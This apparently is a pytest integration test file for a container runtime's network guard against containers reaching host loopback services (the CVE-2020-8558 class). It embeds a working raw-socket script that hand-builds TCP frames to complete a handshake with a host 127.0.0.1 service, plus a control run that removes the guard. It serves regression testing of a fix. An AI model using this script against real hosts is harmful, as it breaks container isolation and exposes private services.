"""Hole 4 of issue 12: host loopback services (the class of CVE-2020-8558).

A port published on 127.0.0.1 (or 0.0.0.0) needs `route_localnet=1` on the bridge, and with it the kernel
no longer drops a packet that arrives on the bridge for 127.0.0.1: a container that hand-builds a frame to
the gateway's MAC reaches every service the host binds to loopback. minirun's raw-prerouting guard drops
such packets; an `nft flush ruleset` took it away for good, because the next run restored NAT and
isolation but not the guard, and route_localnet stayed on after the last such port was gone.
"""

from __future__ import annotations

import select
import socket
import subprocess
from pathlib import Path

import pytest

from tests.integration.conftest import PYTHON, minirun, nft_ruleset

HOST_SERVICE_PORT = 9119  # a host service that listens on 127.0.0.1 only

# Runs in a default container (Docker's default capabilities include NET_RAW): one TCP SYN to
# DST_IP:DST_PORT in an Ethernet frame addressed to the gateway's MAC, built by hand on an AF_PACKET
# socket; on a SYN-ACK it sends the ACK that completes the handshake, so the host's listener accepts.
# First an ordinary datagram to the gateway: the ARP exchange tells the container the gateway's MAC, and
# the host the container's (its SYN-ACK would otherwise wait for an ARP reply that never comes).
ATTACK = r"""
import random, socket, struct, sys, time
gateway_ip, src_ip, dst_ip, dst_port, wait = sys.argv[1:6]
dst_port = int(dst_port)
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"hello", (gateway_ip, 9))
gateway_mac, deadline = None, time.monotonic() + 3
while gateway_mac is None and time.monotonic() < deadline:
    for row in open("/proc/net/arp").read().splitlines()[1:]:
        ip, _, flags, mac = row.split()[:4]
        if ip == gateway_ip and int(flags, 16) & 0x2:
            gateway_mac = bytes.fromhex(mac.replace(":", ""))
    time.sleep(0.01)
raw = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0800))
raw.bind(("eth0", 0))
own_mac = raw.getsockname()[4]

def checksum(data):
    data += b"\0" * (len(data) % 2)
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF

def frame(sport, seq, ack, flags):
    src, dst = socket.inet_aton(src_ip), socket.inet_aton(dst_ip)
    tcp = struct.pack("!HHIIBBHHH", sport, dst_port, seq, ack, 5 << 4, flags, 64240, 0, 0)
    tcp = tcp[:16] + struct.pack("!H", checksum(src + dst + struct.pack("!BBH", 0, 6, len(tcp)) + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), random.randrange(65536), 0x4000, 64, 6, 0, src, dst)
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    return gateway_mac + own_mac + b"\x08\x00" + ip + tcp

sport = random.randrange(40000, 60000)
raw.send(frame(sport, 1000, 0, 0x02))  # SYN
raw.settimeout(0.1)
deadline = time.monotonic() + float(wait)
while time.monotonic() < deadline:
    try:
        packet = raw.recv(2048)[14:]
    except socket.timeout:
        continue
    if len(packet) < 40 or packet[9] != 6 or packet[12:16] != socket.inet_aton(dst_ip):
        continue
    offset = (packet[0] & 0x0F) * 4
    sp, dp, seq, _, _, flags = struct.unpack_from("!HHIIBB", packet, offset)
    if (sp, dp) == (dst_port, sport) and flags & 0x12 == 0x12:
        raw.send(frame(sport, 1001, seq + 1, 0x10))  # ACK
        print("SYN-ACK", flush=True)
        sys.exit(0)
print("no answer", flush=True)
"""


def route_localnet(bridge: str) -> str:
    return Path(f"/proc/sys/net/ipv4/conf/{bridge}/route_localnet").read_text().strip()


def guard_rules() -> int:
    return nft_ruleset().count('comment "minirun localnet-guard"')


def attack(container: str, wait: float) -> str:
    """What the container's hand-built SYN to the host's 127.0.0.1 service gets back."""
    address = minirun("inspect", "-f", "{{.NetworkSettings.IPAddress}}", container).stdout.strip()
    args = ["10.77.0.1", address, "127.0.0.1", str(HOST_SERVICE_PORT), str(wait)]
    result = minirun("exec", container, PYTHON, "-c", ATTACK, *args)
    assert result.returncode == 0, result.stderr
    return result.stdout.strip()


def accepted(listener: socket.socket, timeout: float) -> str | None:
    """The peer address of a connection the host's loopback service got, if any."""
    if not select.select([listener], [], [], timeout)[0]:
        return None
    conn, peer = listener.accept()
    conn.close()
    return peer[0]


def half_open(port: int) -> int:
    """Connections to `port` in SYN_RECV (state 03 of /proc/net/tcp): a SYN that reached the listener."""
    lines = Path("/proc/net/tcp").read_text().splitlines()[1:]
    return sum(1 for line in lines if line.split()[1].endswith(f":{port:04X}") and line.split()[3] == "03")


@pytest.fixture
def host_service():
    with socket.socket() as listener:
        listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        listener.bind(("127.0.0.1", HOST_SERVICE_PORT))
        listener.listen(8)
        yield listener


@pytest.fixture(autouse=True)
def _clean_up(clean_slate):
    yield


def test_flushed_ruleset_then_a_run_restores_the_guard_and_the_host_loopback_stays_closed(host_service, state_dir):
    """Hole 4: after `nft flush ruleset` the next run restores the guard (the bridge still routes 127/8),
    and a container's hand-built SYN to the host's 127.0.0.1 service gets no answer. The control at the
    end removes the guard and shows the same attack reaching the listener, so the test can fail."""
    assert minirun("run", "-d", "--name", "pub", "-p", "127.0.0.1:8181:80", "sleep", "60").returncode == 0
    assert route_localnet("minirun0") == "1" and guard_rules() == 1
    assert minirun("run", "-d", "--name", "attacker", "sleep", "60").returncode == 0
    attacker_ip = minirun("inspect", "-f", "{{.NetworkSettings.IPAddress}}", "attacker").stdout.strip()

    subprocess.run(["nft", "flush", "ruleset"], check=True)  # a firewall reload
    assert route_localnet("minirun0") == "1" and guard_rules() == 0
    assert minirun("run", "--rm", "true").returncode == 0  # any command that ensures the network
    assert guard_rules() == 1
    assert attack("attacker", wait=1.5) == "no answer"
    assert accepted(host_service, 0.2) is None and half_open(HOST_SERVICE_PORT) == 0

    # control: the same attack without the guard reaches the host's loopback service
    subprocess.run(["nft", "flush", "chain", "inet", "minirun", "localnet-guard"], check=True)
    assert attack("attacker", wait=5) == "SYN-ACK"
    assert accepted(host_service, 5) == attacker_ip


def test_route_localnet_goes_back_to_0_with_the_last_loopback_port():
    """Hole 4: route_localnet stays on only while some port on the bridge is reachable on 127.0.0.1 (a
    127.0.0.1 or 0.0.0.0 publish); then it goes back to 0, and the guard with it."""
    assert minirun("run", "-d", "--name", "local", "-p", "127.0.0.1:8182:80", "sleep", "60").returncode == 0
    assert minirun("run", "-d", "--name", "everywhere", "-p", "8183:80", "sleep", "60").returncode == 0
    assert route_localnet("minirun0") == "1"
    assert minirun("rm", "-f", "local").returncode == 0
    assert route_localnet("minirun0") == "1"  # 0.0.0.0:8183 is reachable on 127.0.0.1 too
    assert guard_rules() == 1
    assert minirun("rm", "-f", "everywhere").returncode == 0
    assert route_localnet("minirun0") == "0"
    assert guard_rules() == 0


def test_a_pod_port_on_127_0_0_1_releases_route_localnet():
    """Hole 4: the pod teardown path releases route_localnet too."""
    assert minirun("pod", "create", "-p", "127.0.0.1:8185:80", "lp").returncode == 0
    try:
        assert route_localnet("minirun0") == "1" and guard_rules() == 1
    finally:
        assert minirun("pod", "rm", "-f", "lp").returncode == 0
    assert route_localnet("minirun0") == "0" and guard_rules() == 0


def test_doctor_reports_and_fixes_a_missing_guard():
    """Hole 4: `doctor` names a missing guard while a bridge routes 127/8, with the command that fixes it;
    `doctor --fix` puts it back."""
    assert minirun("run", "-d", "--name", "pub", "-p", "127.0.0.1:8186:80", "sleep", "60").returncode == 0
    subprocess.run(["nft", "flush", "chain", "inet", "minirun", "localnet-guard"], check=True)
    found = minirun("doctor")
    assert found.returncode == 1
    assert "FAIL   minirun0 route 127.0.0.0/8 (route_localnet=1) but the 127/8 guard is missing" in found.stdout, (
        found.stdout
    )
    assert "fix: nft -f - <<'EOF'" in found.stdout and 'ip daddr 127.0.0.0/8 drop comment "minirun localnet-guard"' in (
        found.stdout
    )
    fixed = minirun("doctor", "--fix")
    assert "fixed  minirun0 route 127.0.0.0/8" in fixed.stdout, fixed.stdout
    assert guard_rules() == 1
    assert "the 127/8 guard is in place (minirun0 route 127.0.0.0/8)" in minirun("doctor").stdout


def test_doctor_switches_off_route_localnet_nobody_needs():
    """Hole 4: a bridge left routing 127/8 with no port on 127.0.0.1 (say, by an older minirun) is found
    and `doctor --fix` switches it off."""
    assert minirun("run", "--rm", "true").returncode == 0  # minirun0 exists
    subprocess.run(["sysctl", "-qw", "net.ipv4.conf.minirun0.route_localnet=1"], check=True)
    try:
        found = minirun("doctor")
        assert "FAIL   minirun0 routes 127.0.0.0/8 but no port is published on 127.0.0.1" in found.stdout
        assert "fix: sysctl -w net.ipv4.conf.minirun0.route_localnet=0" in found.stdout
        assert minirun("doctor", "--fix").returncode in (0, 1)
        assert route_localnet("minirun0") == "0"
    finally:
        subprocess.run(["sysctl", "-qw", "net.ipv4.conf.minirun0.route_localnet=0"], check=True)


def test_dry_run_shows_the_guard_before_route_localnet():
    """Hole 4: the plan adds the guard before the bridge routes 127/8, never the other way round."""
    text = minirun("run", "--dry-run", "-p", "127.0.0.1:8187:80", "true").stderr
    assert text.index('comment "minirun localnet-guard"') < text.index("route_localnet=1")
